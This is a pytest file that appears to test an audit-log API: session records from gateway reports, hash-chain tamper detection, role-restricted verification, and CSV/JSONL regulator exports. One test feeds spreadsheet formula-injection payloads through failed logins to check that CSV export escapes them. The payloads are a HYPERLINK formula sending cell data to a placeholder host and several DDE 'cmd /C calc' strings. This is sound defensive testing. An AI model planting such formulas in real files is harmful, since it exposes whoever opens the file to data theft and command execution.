"""The chained audit log over the API: connection sessions from gateway reports, chain
verification and regulator exports (auditor reads and exports, tenants see their own)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select, update

from tests.api.test_gateway import device, state
from tests.api.test_usage import REPORTS, enrolled_days_ago, peer, report, serving_gateway
from tests.conftest import both_stores
from tests.support.world import World
from tongdao import spreadsheet
from tongdao.audit.chain import field_digest
from tongdao.audit.models import AUDIT_EVENTS, AuditEvent, OpenConnection
from tongdao.audit.sessions import STALE, close_stale
from tongdao.compliance.rules import VERSION
from tongdao.gateway.models import Gateway
from tongdao.runtime import Runtime
from tongdao.spreadsheet import unescape
from tongdao.tenancy.models import User

EXPORT = "/api/v1/audit/export"
VERIFY = "/api/v1/audit/verify"


def sessions(runtime: Runtime) -> list[AuditEvent]:
    with runtime.db.session(write=False) as session:
        return list(
            session.scalars(
                select(AuditEvent).where(AuditEvent.kind == "session").order_by(AuditEvent.seq)
            )
        )


def connect(world: World) -> tuple[dict[str, str], dict[str, Any], str, datetime, datetime]:
    """A device of A's employee connects through a PoP and stops 10 minutes ago."""
    pop, gw = serving_gateway(world)
    dev = device(world)
    state(world, gw)  # the agent was sent the device
    enrolled_days_ago(world.runtime, 1)  # its reports reach back before this test began
    key = dev["public_key"]
    now = datetime.now(UTC)
    handshake = now - timedelta(minutes=11, seconds=20)
    first_end = now - timedelta(minutes=11)
    last_end = now - timedelta(minutes=10)
    reports = [
        report(1, [peer(world.a.id, dev["id"], 100, 200, key=key, handshake=handshake)], first_end),
        report(2, [peer(world.a.id, dev["id"], 5, 7, key=key)], last_end),
    ]
    for body in reports:
        resp = world.client.post(REPORTS, json=body, headers=gw)
        assert resp.json()["accepted"], resp.text
    return gw, dev, pop, handshake, last_end


def unzip(resp: Any) -> tuple[dict[str, Any], dict[str, bytes]]:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    manifest = json.loads(files.pop("manifest.json"))
    for entry in manifest["files"]:
        assert hashlib.sha256(files[entry["name"]]).hexdigest() == entry["sha256"]
        assert len(files[entry["name"]]) == entry["bytes"]
    return manifest, files


def jsonl(files: dict[str, bytes]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in files["records.jsonl"].decode().splitlines()]


# --- connection sessions ---------------------------------------------------------------------
@both_stores
def test_a_connection_becomes_one_chained_session_record(world: World, runtime: Runtime) -> None:
    gw, dev, pop, handshake, last_end = connect(world)
    assert sessions(runtime) == []  # still in progress
    # The next report, 6 minutes without this peer: the session ended at its last activity.
    later = report(3, [], last_end + timedelta(minutes=6))
    assert world.client.post(REPORTS, json=later, headers=gw).json()["accepted"]
    [rec] = sessions(runtime)
    assert (rec.tenant_id, rec.user_id, rec.device_id) == (
        world.a.id,
        world.a.employee.user_id,
        uuid.UUID(dev["id"]),
    )
    assert (rec.source_ip, rec.source_port, str(rec.pop_id)) == ("198.51.100.2", 51820, pop)
    assert (rec.started_at, rec.ended_at, rec.occurred_at) == (handshake, last_end, last_end)
    assert (rec.rx_bytes, rec.tx_bytes) == (105, 207)
    assert rec.seq is not None and rec.hash
    with runtime.db.session(write=False) as session:
        assert session.scalar(select(OpenConnection.id)) is None
    assert world.client.get(VERIFY, headers=world.operators["auditor"].headers).json()["ok"]


def test_a_gateway_that_stops_reporting_has_its_sessions_closed(
    world: World, runtime: Runtime
) -> None:
    pop, gw = serving_gateway(world)
    dev = device(world)
    state(world, gw)
    enrolled_days_ago(runtime, 1)
    ended = datetime.now(UTC) - timedelta(minutes=40)
    body = report(1, [peer(world.a.id, dev["id"], 1, 1, key=dev["public_key"])], ended)
    assert world.client.post(REPORTS, json=body, headers=gw).json()["accepted"]
    with runtime.db.session() as session:
        # Not while the gateway's last report is recent; once it has been quiet for STALE.
        assert close_stale(session, datetime.now(UTC)) == 0
        assert close_stale(session, datetime.now(UTC) + STALE + timedelta(minutes=1)) == 1
        session.commit()
    [rec] = sessions(runtime)
    assert str(rec.pop_id) == pop and rec.device_id == uuid.UUID(dev["id"])


@both_stores
def test_a_report_after_the_sweep_starts_a_new_session(world: World, runtime: Runtime) -> None:
    """The server keeps a copy of each gateway's open sessions; one swept away while the
    gateway was quiet is not used (nor closed twice) when the gateway reports again."""
    _pop, gw = serving_gateway(world)
    dev = device(world)
    state(world, gw)
    enrolled_days_ago(runtime, 1)
    now = datetime.now(UTC)
    row = peer(world.a.id, dev["id"], 1, 1, key=dev["public_key"])
    first = report(1, [row], now - timedelta(minutes=30))
    assert world.client.post(REPORTS, json=first, headers=gw).json()["accepted"]
    with runtime.db.session() as session:  # quiet since: its last report 20 minutes ago
        session.execute(update(Gateway).values(last_seen_at=now - timedelta(minutes=20)))
        session.commit()
    with runtime.db.session() as session:
        assert close_stale(session, now) == 1
        session.commit()
    assert len(sessions(runtime)) == 1
    again = report(2, [row], now - timedelta(minutes=1))
    assert world.client.post(REPORTS, json=again, headers=gw).json()["accepted"]
    assert len(sessions(runtime)) == 1  # the swept one, written once
    with runtime.db.session(write=False) as session:
        [started] = session.scalars(select(OpenConnection.started_at)).all()
    assert started >= now - timedelta(minutes=2)  # a new session, from the second report


# --- verification ----------------------------------------------------------------------------
@both_stores
def test_verify_names_a_record_edited_in_the_database(world: World, runtime: Runtime) -> None:
    auditor = world.operators["auditor"].headers
    good = world.client.get(VERIFY, headers=auditor).json()
    assert good["ok"] and good["problem"] is None and good["checked"] == good["head_seq"]
    with runtime.db.engine.begin() as conn:
        target = conn.execute(
            select(AUDIT_EVENTS.c.id, AUDIT_EVENTS.c.seq).where(AUDIT_EVENTS.c.seq == 3)
        ).one()
        conn.execute(
            update(AUDIT_EVENTS).where(AUDIT_EVENTS.c.id == target.id).values(action="nothing")
        )
    bad = world.client.get(VERIFY, headers=auditor).json()
    assert bad["ok"] is False
    assert bad["problem"]["kind"] == "edited"
    assert (bad["problem"]["seq"], bad["problem"]["id"]) == (3, target.id)
    assert f"record seq 3 (id {target.id}) was edited" in bad["problem"]["message"]


def test_only_operator_roles_verify_the_whole_chain(world: World) -> None:
    for actor in (world.a.admin, world.a.employee):
        assert world.client.get(VERIFY, headers=actor.headers).status_code == 403
    for role in ("operator_admin", "compliance_officer", "auditor"):
        assert world.client.get(VERIFY, headers=world.operators[role].headers).status_code == 200
    assert (
        world.client.get(VERIFY, headers=world.operators["billing_clerk"].headers).status_code
        == 403
    )


# --- exports ---------------------------------------------------------------------------------
@both_stores
def test_the_auditor_exports_by_source_ip_and_time_with_a_manifest(
    world: World, runtime: Runtime
) -> None:
    gw, dev, _pop, handshake, last_end = connect(world)
    world.client.post(REPORTS, json=report(3, [], last_end + timedelta(minutes=6)), headers=gw)
    auditor = world.operators["auditor"]
    params = {
        "format": "jsonl",
        "source_ip": "198.51.100.2",
        "since": (handshake + timedelta(seconds=10)).isoformat(),  # inside the session
        "until": (last_end - timedelta(seconds=10)).isoformat(),
    }
    manifest, files = unzip(world.client.get(EXPORT, params=params, headers=auditor.headers))
    [row] = jsonl(files)
    assert row["kind"] == "session" and row["action"] == "connection"
    assert (row["device_id"], row["user_id"], row["source_port"]) == (
        dev["id"],
        str(world.a.employee.user_id),
        51820,
    )
    assert row["seq"] and row["hash"] and row["prev_hash"]
    assert manifest["records"] == 1 and manifest["counts"] == {"session": 1}
    assert manifest["filters"]["source_ip"] == "198.51.100.2"
    assert manifest["chain"]["first_seq"] == manifest["chain"]["last_seq"] == row["seq"]
    assert manifest["chain"]["head_seq"] >= row["seq"]
    assert manifest["ruleset_version"] == VERSION
    assert manifest["generated_by"]["email"] == "auditor@operator.example"
    # A window outside the session finds nothing; the export is audited either way.
    params["since"] = (last_end + timedelta(minutes=1)).isoformat()
    params["until"] = (last_end + timedelta(minutes=2)).isoformat()
    manifest2, files2 = unzip(world.client.get(EXPORT, params=params, headers=auditor.headers))
    assert manifest2["records"] == 0 and files2["records.jsonl"] == b""
    audited = world.client.get(
        "/api/v1/audit/events", params={"kind": "export"}, headers=auditor.headers
    ).json()["data"]
    assert [e["after"]["files"][0]["sha256"] for e in audited] == [
        manifest2["files"][0]["sha256"],
        manifest["files"][0]["sha256"],
    ]
    assert audited[0]["actor_id"] == str(auditor.user_id)


def test_csv_export_by_user_and_a_session_still_open(world: World) -> None:
    connect(world)  # the session is still in progress
    user = str(world.a.employee.user_id)
    params = {"format": "csv", "user_id": user}
    manifest, files = unzip(
        world.client.get(EXPORT, params=params, headers=world.operators["auditor"].headers)
    )
    table = list(csv.DictReader(io.StringIO(files["records.csv"].decode())))
    assert table and all(user in (r["user_id"], r["actor_id"]) for r in table)
    open_rows = [r for r in table if r["action"] == "connection_open"]
    assert len(open_rows) == 1 and open_rows[0]["seq"] == ""
    assert open_rows[0]["source_ip"] == "198.51.100.2"
    assert manifest["open_sessions"] == 1
    assert manifest["files"][0]["rows"] == len(table)
    assert {"device"} <= {r["object_type"] for r in table}  # the device's creation


def test_a_tenant_admin_exports_only_their_tenant(world: World) -> None:
    connect(world)
    world.client.patch(
        f"/api/v1/tenants/{world.b.id}", json={"contact_name": "B"}, headers=world.admin.headers
    )
    _manifest, files = unzip(
        world.client.get(EXPORT, params={"format": "jsonl"}, headers=world.a.admin.headers)
    )
    rows = jsonl(files)
    assert rows and {r["tenant_id"] for r in rows} == {str(world.a.id)}
    assert str(world.b.id) not in files["records.jsonl"].decode()
    # B's admin does not see A's connection.
    _m, b_files = unzip(
        world.client.get(EXPORT, params={"format": "jsonl"}, headers=world.b.admin.headers)
    )
    assert str(world.a.id) not in b_files["records.jsonl"].decode()
    other = world.client.get(
        EXPORT, params={"tenant_id": str(world.b.id)}, headers=world.a.admin.headers
    )
    assert other.status_code == 404
    assert world.client.get(EXPORT, headers=world.a.employee.headers).status_code == 403


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"source_ip": "not-an-ip"}, "source_ip"),
        ({"format": "xml"}, "format"),
        ({"since": "2026-02-01T00:00:00Z", "until": "2026-01-01T00:00:00Z"}, "since"),
        ({"since": "yesterday"}, "since"),
        ({"user_id": "nobody"}, "user_id"),
    ],
)
def test_bad_export_queries_are_field_keyed_422(
    world: World, params: dict[str, str], field: str
) -> None:
    resp = world.client.get(EXPORT, params=params, headers=world.operators["auditor"].headers)
    assert resp.status_code == 422, resp.text
    assert field in resp.json()["error"]["fields"], resp.text


# --- CSV cells a spreadsheet would run (issue 10) -----------------------------------------------
FORMULAS = (
    '=HYPERLINK("http://198.51.100.66/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def fail_logins(world: World) -> None:
    for email in FORMULAS:
        resp = world.client.post(
            "/api/v1/auth/login", json={"email": email, "password": "not the password"}
        )
        assert resp.status_code == 401, resp.text


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(world: World) -> None:
    connect(world)
    fail_logins(world)
    auditor = world.operators["auditor"].headers
    manifest, files = unzip(world.client.get(EXPORT, params={"format": "csv"}, headers=auditor))
    table = list(csv.DictReader(io.StringIO(files["records.csv"].decode())))
    _m, jfiles = unzip(world.client.get(EXPORT, params={"format": "jsonl"}, headers=auditor))
    stored = {row["id"]: row for row in jsonl(jfiles) if row["id"] is not None}
    failed = [r for r in table if r["action"] == "login_failed"]
    assert len(failed) == len(FORMULAS)
    for row in failed:
        original = stored[int(row["id"])]["actor"]  # JSON Lines stay verbatim
        assert original[0] in "=+-@"
        assert row["actor"] == "'" + original
        assert unescape(row["actor"]) == original
        # The cell's text is still the one the record's digest was taken of.
        salts, digests = json.loads(row["pi_salts"]), json.loads(row["pi_digests"])
        assert field_digest(salts["actor"], "actor", unescape(row["actor"])) == digests["actor"]
    # No cell of the file starts a formula; numbers stay numbers.
    for row in table:
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
        assert all(row[c].isdigit() for c in ("id", "seq") if row[c]), row
    session = next(r for r in table if r["action"] == "connection_open")
    assert (session["rx_bytes"], session["source_port"]) == ("105", "51820")
    assert manifest["csv_escaping"] == spreadsheet.RULE
    assert "OWASP" in manifest["csv_escaping"]["rule"]
    assert "csv_escaping" not in _m
    # The export's own audit record carries the hash of the file as written (escaped).
    exported = world.client.get(
        "/api/v1/audit/events", params={"kind": "export"}, headers=auditor
    ).json()["data"]
    assert hashlib.sha256(files["records.csv"]).hexdigest() in {
        e["after"]["files"][0]["sha256"] for e in exported
    }


@both_stores
def test_a_created_objects_record_holds_its_stored_values(world: World, runtime: Runtime) -> None:
    """The create record's ``after`` is what was stored: a column the request left unset is
    null, never SQLAlchemy's "no value" marker (which used to be written as ``4``)."""
    admin = world.actor("tenant_admin")
    resp = world.client.post(
        f"/api/v1/tenants/{world.a.id}/users",
        json={"email": "new.hire@a.example", "display_name": "New Hire"},
        headers=admin.headers,
    )
    assert resp.status_code == 201, resp.text
    user_id = resp.json()["id"]
    with runtime.db.session(write=False) as session:
        event = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "create", AuditEvent.object_id == user_id)
        ).one()
        user = session.get(User, uuid.UUID(user_id))
        assert user is not None and event.after is not None
        unset = [key for key in event.after if getattr(user, key) is None]
        assert "id_type" in unset and "totp_secret_sealed" not in event.after
        for key in unset:  # (set columns may have changed since: the invitation, for one)
            assert event.after[key] is None, (key, event.after[key])
        assert event.after["email"] == "new.hire@a.example"
        assert event.after["display_name"] == "New Hire"
